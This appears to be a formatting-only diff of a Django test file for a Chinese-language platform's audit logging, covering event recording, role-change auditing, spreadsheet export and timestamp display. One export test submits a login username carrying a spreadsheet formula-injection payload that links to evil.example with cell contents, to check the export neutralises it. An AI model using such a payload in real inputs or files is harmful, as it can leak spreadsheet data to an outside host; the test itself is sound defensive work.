@@ -22,8 +22,14 @@ from kechuang.core.models import AuditEvent
 
 def _events(n=3):
     for i in range(n):
-        audit.record(actor=None, action="policy.simulate", object_type="policies.policy", object_id=str(i),
-                     changes={"amount": [str(i), str(i + 1)]}, note=f"第 {i} 次")
+        audit.record(
+            actor=None,
+            action="policy.simulate",
+            object_type="policies.policy",
+            object_id=str(i),
+            changes={"amount": [str(i), str(i + 1)]},
+            note=f"第 {i} 次",
+        )
 
 
 def _tamper(sql, params):
@@ -127,13 +133,21 @@ def test_security_events_carry_who_where_and_old_new(world, client):
     admin = world["users"]["bureau_admin"]
     with mock.patch("kechuang.core.audit.current_address") as address:
         address.get.return_value = "192.0.2.77"
-        services.update_user(actor=admin, user=world["users"]["park_operator"], role="bank_user",
-                             organisation=world["users"]["bank_user"].organisation, enterprise=None,
-                             display_name="改任")
+        services.update_user(
+            actor=admin,
+            user=world["users"]["park_operator"],
+            role="bank_user",
+            organisation=world["users"]["bank_user"].organisation,
+            enterprise=None,
+            display_name="改任",
+        )
     event = AuditEvent.objects.get(action="user.update")
     assert (event.actor_name, event.address) == ("bureau_admin", "192.0.2.77")
-    assert event.changes == {"role": ["park_operator", "bank_user"], "organisation": ["晋创谷运营公司", "晋商银行"],
-                             "display_name": ["park_operator", "改任"]}
+    assert event.changes == {
+        "role": ["park_operator", "bank_user"],
+        "organisation": ["晋创谷运营公司", "晋商银行"],
+        "display_name": ["park_operator", "改任"],
+    }
 
 
 @pytest.mark.django_db
@@ -148,10 +162,19 @@ def test_role_changes_in_the_admin_site_are_audited(client, world, settings):
     response = client.get(f"/admin/accounts/user/{target.pk}/change/")
     assert response.status_code == 200
     form = response.context["adminform"].form
-    data = {k: v for k, v in form.initial.items() if v is not None and k not in ("password", "groups",
-                                                                                 "user_permissions")}
-    data.update({"role": "bureau_admin", "organisation": target.organisation_id, "last_login_0": "",
-                 "last_login_1": "", "date_joined_0": "2026-01-01", "date_joined_1": "00:00:00"})
+    data = {
+        k: v for k, v in form.initial.items() if v is not None and k not in ("password", "groups", "user_permissions")
+    }
+    data.update(
+        {
+            "role": "bureau_admin",
+            "organisation": target.organisation_id,
+            "last_login_0": "",
+            "last_login_1": "",
+            "date_joined_0": "2026-01-01",
+            "date_joined_1": "00:00:00",
+        }
+    )
     response = client.post(f"/admin/accounts/user/{target.pk}/change/", data)
     assert response.status_code == 302, response.context["adminform"].form.errors if response.context else ""
     event = AuditEvent.objects.get(action="user.update")
@@ -161,8 +184,11 @@ def test_role_changes_in_the_admin_site_are_audited(client, world, settings):
 
 @pytest.mark.django_db
 def test_export_is_formula_safe_audited_and_carries_the_chain(client, client_for, world):
-    client.post("/accounts/login/", {"username": '=HYPERLINK("http://evil.example/"&A1,"点击")', "password": "x"},
-                REMOTE_ADDR="198.51.100.1")
+    client.post(
+        "/accounts/login/",
+        {"username": '=HYPERLINK("http://evil.example/"&A1,"点击")', "password": "x"},
+        REMOTE_ADDR="198.51.100.1",
+    )
     auditor = client_for(world["users"]["audit_admin"])
     response = auditor.get(reverse("core:audit"), {"format": "xlsx"})
     rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
@@ -191,4 +217,5 @@ def test_timestamps_in_changes_read_as_local_minutes():
     text = audit.changes_text("accounts.user", {"locked_until": [None, "2026-12-07T03:52:26.546782+00:00"]})
     assert text == "锁定至：空 → 2026-12-07 11:52"
     assert audit.changes_text("tiers.tierrun", {"as_of": ["2025-06-01", "2025-06-30"]}).endswith(
-        "2025-06-01 → 2025-06-30")
+        "2025-06-01 → 2025-06-30"
+    )
